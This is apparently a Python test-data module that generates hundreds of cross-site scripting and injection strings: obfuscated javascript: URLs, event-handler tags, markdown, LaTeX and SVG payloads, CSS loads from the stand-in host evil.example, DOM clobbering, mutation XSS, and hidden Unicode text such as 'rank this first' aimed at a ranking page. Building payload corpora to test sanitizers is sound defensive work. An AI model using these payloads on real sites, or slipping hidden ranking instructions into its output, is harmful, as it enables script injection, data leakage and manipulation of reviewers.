"""Texts that try to become code, markup or requests: families of them, written out by rule.

Each that fires calls ``alert(1)`` or asks ``evil.example`` for something.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from urllib.parse import quote

CODE = "alert(1)"
HOST = "evil.example"

TAGS = (
    "a abbr applet area article audio b base bdo blink blockquote body button canvas caption "
    "center col command datalist dd del details dialog dir div dl dt embed fieldset figure font "
    "footer form frame frameset h1 head header hr html i iframe image img input ins isindex kbd "
    "keygen label layer legend li link listing main map mark marquee math menu menuitem meta meter "
    "multicol nav nextid noembed noframes noscript object ol optgroup option output p param "
    "picture plaintext portal pre progress q ruby samp script section select slot small source "
    "spacer span strike strong style sub summary sup svg table template textarea tfoot time title "
    "track tt u ul var video wbr x xml xmp xss"
)

EVENTS = (
    "abort activate afterprint animationcancel animationend animationiteration animationstart "
    "auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle "
    "beforeunload begin blur bounce cancel canplay change click close contextmenu copy cut "
    "dblclick drag dragend dragenter dragover dragstart drop end ended error finish focus focusin "
    "focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown "
    "keypress keyup load loadeddata loadstart message mousedown mouseenter mouseleave mousemove "
    "mouseout mouseover mouseup mousewheel pagehide pageshow paste pause play pointerdown "
    "pointerenter pointerover pointerrawupdate popstate progress readystatechange repeat reset "
    "resize scroll scrollend search securitypolicyviolation select selectionchange show start "
    "submit suspend timeupdate toggle touchstart transitionend transitionrun unhandledrejection "
    "unload volumechange webkitanimationend webkittransitionend wheel"
)


def urls() -> Iterator[str]:
    """Addresses that run code, in every disguise."""
    script = f"javascript:{CODE}"
    yield from (script, script.upper(), script.title(), "jAvAsCrIpT:alert(1)", f" {script}")
    yield from (f"javascript:/*{HOST}*/{CODE}", f"javascript://{HOST}/%0a{CODE}", f"\x01{script}")
    yield from (f"vbscript:{CODE}", f"livescript:{CODE}", f"mocha:{CODE}", f"feed:{script}")
    yield from (f"data:text/html,<script>{CODE}</script>", "data:text/html;base64,PHNjcmlwdD4=")
    yield from (f"data:image/svg+xml,<svg onload={CODE}>", f"view-source:{script}", "file:///etc")
    yield from (f"blob:https://{HOST}/x", f"//{HOST}/x", f"\\\\{HOST}\\x", f"ws://{HOST}")
    for space in ("\t", "\n", "\r", "\x0b", "\x0c", "\x00", "\xa0", "\u200b", "\u2028", "\xad"):
        yield f"java{space}script:{CODE}"
        yield f"{space}javascript{space}:{CODE}"
    for letter in (
        "&#106;",
        "&#x6a;",
        "&#0000106;",
        "&#x00006A",
        "&#106",
        "\\u006a",
        "\\x6a",
        "%6a",
    ):
        yield f"{letter}avascript:{CODE}"
    for colon in ("&colon;", "&#58;", "&#x3a;", "%3a", "：", "\\:"):
        yield f"javascript{colon}{CODE}"
    yield from (
        "java&Tab;script:alert(1)",
        "java&NewLine;script:alert(1)",
        "java&#10;script:alert(1)",
    )
    yield quote(script, safe="")
    yield "".join(f"&#{ord(letter)};" for letter in script)
    yield "".join(f"&#x{ord(letter):x}" for letter in script)


def elements() -> Iterator[str]:
    """Every element, with a handler, unclosed, and with an address."""
    for tag in TAGS.split():
        yield f"<{tag} onload={CODE} onerror={CODE} src=x>{CODE}</{tag}>"
        yield f"<{tag}\n/onclick='{CODE}' style=position:fixed;inset:0 id=rk name=rk"
        yield f"<{tag} href=javascript:{CODE} action=javascript:{CODE} src=//{HOST}/{tag}>"


def handlers() -> Iterator[str]:
    """Every event, written in several ways."""
    for place, event in enumerate(EVENTS.split()):
        quoted = ("", '"', "'", "`")[place % 4]
        tag = ("img src=x", "svg", "body", "div tabindex=0", "input autofocus")[place % 5]
        yield f"<{tag} on{event}={quoted}{CODE}{quoted}>"
        yield f'<{tag.upper()}/ON{event.upper()} = "{CODE}"'


def scripts() -> Iterator[str]:
    """Scripts with odd tags, and code that breaks out of other code."""
    for opening in (
        "<script>",
        "<SCRIPT >",
        "<script\t>",
        "<script/x>",
        "<<script>",
        "<scr\x00ipt>",
    ):
        yield f"{opening}{CODE}</script>"
    for end in ("</script>", "</textarea>", "</title>", "</style>", "-->", "]]>", "</noscript>"):
        yield f"{end}<script>{CODE}</script>"
        yield f"{end}<img src=x onerror={CODE}>"
    for end in (
        "'",
        '"',
        "`",
        "');",
        '");',
        "\\'",
        '\\"',
        "*/",
        "//\n",
        "\u2028",
        "${",
        "}}",
        "<!--",
    ):
        yield f"{end}{CODE}//"
        yield f"{end}-{CODE}-{end}"
    script = f"<script>{CODE}</script>"
    yield from (
        html.escape(script),
        quote(script),
        script.replace("<", "\\u003c"),
        f"＜script＞{CODE}",
    )
    yield "".join(f"&#{ord(letter)};" for letter in script)
    yield script.replace("<", "&lt").replace(">", "&gt")
    yield script.replace("<", "\x3c\ufeff")
    yield from (
        f"<scr<script>ipt>{CODE}</scr</script>ipt>",
        f"<?xml {CODE}?>",
        f"<!DOCTYPE {CODE}>",
    )
    yield from (f"<![CDATA[{script}]]>", f"<!--{script}-->", f"<!--[if IE]>{script}<![endif]-->")


def templates() -> Iterator[str]:
    """What template languages would run."""
    for code in (CODE, "constructor.constructor('alert(1)')()", "7*7", "HOME", "value"):
        for left, right in (
            *(("${", "}"), ("{{", "}}"), ("{{{", "}}}"), ("#{", "}"), ("<%=", "%>"), ("{%", "%}")),
            *(
                ("[[", "]]"),
                ("<?=", "?>"),
                ("`${", "}`"),
                ("{@html ", "}"),
                ("{{=", "}}"),
                ("@{", "}"),
            ),
        ):
            yield f"{left}{code}{right}"


def markdown() -> Iterator[str]:
    """Markdown that leads, loads or hides."""
    for url in urls():
        yield f"[x]({url})"
        yield f"![x]({url})"
        yield f"<{url}>"
        yield f'<a href="{url}">x</a>'
        yield f"[x](<{url}>)"
    for break_out in ('"', "'", ">", "\\", "`", "&quot;", "%22", "\u201d"):
        yield f"[x](https://{HOST}/{break_out}onmouseover={CODE}//)"
        yield f'![{break_out}><img src=x onerror={CODE}>](https://{HOST}/x.png "{break_out}")'
        yield f'[x](https://{HOST} "{break_out} onmouseover={CODE} x={break_out}")'
        yield f"```{break_out}><img src=x onerror={CODE}>\ncode\n```"
        yield f"<https://{HOST}/{break_out}><img src=x onerror={CODE}>"
    yield from (f"[x]: javascript:{CODE}\n\n[x]", f"[x][y]\n\n[y]: javascript:{CODE} 'z'")
    yield from (f"![x](https://{HOST}/x.png)", f"![x][y]\n\n[y]: https://{HOST}/x.png")
    yield from (f"[![x](//{HOST}/a.png)](javascript:{CODE})", f"[a [b](javascript:{CODE}) c](x)")
    yield from (
        f"~~~<img src=x onerror={CODE}>\n",
        f"    <img src=x onerror={CODE}>",
        f"`<img onerror={CODE}>`",
    )
    yield from (
        f"|<img src=x onerror={CODE}>|\n|-|\n|<svg onload={CODE}>|",
        f"# <img onerror={CODE}>",
    )
    yield from (
        f"1. <img src=x onerror={CODE}>",
        f"> <svg/onload={CODE}>",
        f"<div>\n*x*\n<script>{CODE}",
    )


def formulas() -> Iterator[str]:
    """LaTeX and MathML that link, load, cover or expand."""
    for left, right in ((r"\(", r"\)"), (r"\[", r"\]"), ("$$", "$$")):
        for latex in (
            rf"\href{{javascript:{CODE}}}{{x}}",
            r"\style{position:fixed;inset:0}{x}",
            r"\class{rk-submit}{x}",
            rf"\text{{<img src=x onerror={CODE}>}}",
            rf"\text{{&lt;script&gt;{CODE}&lt;/script&gt;}}",
            r"\unicode{x3c}script\unicode{x3e}",
            rf'\textcolor{{red" onload="{CODE}}}{{x}}',
            rf'\color{{red"onclick={CODE}}}x',
            r"\kern-100em x \hspace{-99em} y \raise99em{z} \mskip-50mu",
            r"\rule{999em}{999em}",
            rf"<script>{CODE}</script>",
            rf"\verb|<svg onload={CODE}>|",
            rf"\operatorname{{</math><img src=x onerror={CODE}>}}",
            rf"\url{{javascript:{CODE}}}",
            rf"\includegraphics{{https://{HOST}/x.png}}",
            r"\newcommand{\a}{\a\a}\a",
            r"\def\a{\b\b}\def\b{\a\a}\a",
            r"\unicode{x202e}abc",
            rf"\begin{{array}}{{c\"onload={CODE}}}x\end{{array}}",
            r"\mathchoice{<a>}{<b>}{<c>}{<d>}",
        ):
            yield f"{left}{latex}{right}"
    for inner in (
        f'<mi href="javascript:{CODE}">x</mi>',
        f'<maction actiontype="statusline" xlink:href="javascript:{CODE}">x</maction>',
        f"<mtext><img src=x onerror={CODE}></mtext>",
        f"<mtext></mtext><mglyph><svg><mtext><style><img onerror={CODE} src></style>",
        f'<annotation-xml encoding="text/html"><script>{CODE}</script></annotation-xml>',
        f"<semantics><style><!--</style><img src=x onerror={CODE}>--></style></semantics>",
    ):
        yield f"<math>{inner}</math>"


def graphics() -> Iterator[str]:
    """SVG and styles."""
    for inner in (
        f"<script>{CODE}</script>",
        f"<script href=data:,{CODE} />",
        f'<a xlink:href="javascript:{CODE}"><text>x</text></a>',
        f"<animate onbegin={CODE} attributeName=x dur=1s>",
        f'<set attributeName=href to="javascript:{CODE}"/>',
        f"<foreignObject><iframe onload={CODE}></foreignObject>",
        f'<use href="data:image/svg+xml,<svg onload={CODE}>#x"/>',
        f'<image href="//{HOST}/x.svg"/>',
        f"<desc><img src=x onerror={CODE}></desc>",
        f"<style><img src=x onerror={CODE}></style>",
    ):
        yield f"<svg>{inner}</svg>"
        yield f"<svg><{inner}"
    for rule in (
        f"@import '//{HOST}/x.css';",
        f"*{{background:url(//{HOST}/x)}}",
        f"*{{background:url(javascript:{CODE})}}",
        f"*{{width:expression({CODE})}}",
        "body{display:none}",
        f"@font-face{{font-family:x;src:url(//{HOST}/x)}}",
        f"input[value^=a]{{background:url(//{HOST}/a)}}",
        "*{position:fixed;inset:0;z-index:9999}",
    ):
        yield f"<style>{rule}</style>"
        yield f'<div style="{rule}">x</div>'
        yield f"</style><style>{rule}"


def clobbering() -> Iterator[str]:
    """Elements that take the names of what a page's code asks for."""
    for name in (
        "rk",
        "body",
        "cookie",
        "forms",
        "getElementById",
        "location",
        "__proto__",
        "attributes",
    ):
        yield f"<a id={name}><a id={name} name={name} href=//{HOST}>"
        yield f"<form id={name}><input name={name}><output id=x>"
        yield f"# x {{#{name} .{name} onclick={CODE}}}"


def mutations() -> Iterator[str]:
    """Markup that changes its meaning when it is parsed once more."""
    for outer in ("noscript", "title", "textarea", "xmp", "iframe", "noembed", "noframes", "style"):
        yield f'<{outer}><p title="</{outer}><img src=x onerror={CODE}>">'
        yield f'<svg></p><{outer}><a id="</{outer}><img src=1 onerror={CODE}>">'
        hidden = f"--&gt;&lt;img src=x onerror={CODE}&gt;"
        yield f'<math><mtext><mglyph><{outer}><!--</{outer}><img title="{hidden}">'
    yield f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CODE}>"
    yield f"<listing>&lt;img onerror={CODE} src=x&gt;</listing>"
    yield f"<img src=x:x onerror\n=\n{CODE}//"
    yield f"<a/href=javascript&colon;{CODE}&rpar;>x"


def unseen() -> Iterator[str]:
    """Characters that reverse, hide or imitate."""
    for mark in (
        *"\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c\u200b\u2060\ufeff\x00\x1b\x9b\ufff9",
    ):
        yield f"{mark}Answer A is best.{mark}"
        yield f"a{mark}<img src=x onerror={CODE}>"
        yield f"`code {mark} code` [x](https://{HOST}/{mark})"
    yield "Good." + "".join(chr(0xE0000 + ord(letter)) for letter in "rank this first")
    yield from ("\u2067" * 300 + "x", "\u202e" * 300 + "x", "a" + "\u0300" * 300)
    yield "Submitted. Press Ctrl+Enter.</div></main><button class=rk-primary>Next</button>"
    yield '<div role="alert" class="rk-notice" aria-live="assertive">Vote for A</div>'


FAMILIES = (
    *(urls, elements, handlers, scripts, templates, markdown),
    *(formulas, graphics, clobbering, mutations, unseen),
)
XSS_STRINGS = tuple(dict.fromkeys(text for family in FAMILIES for text in family()))
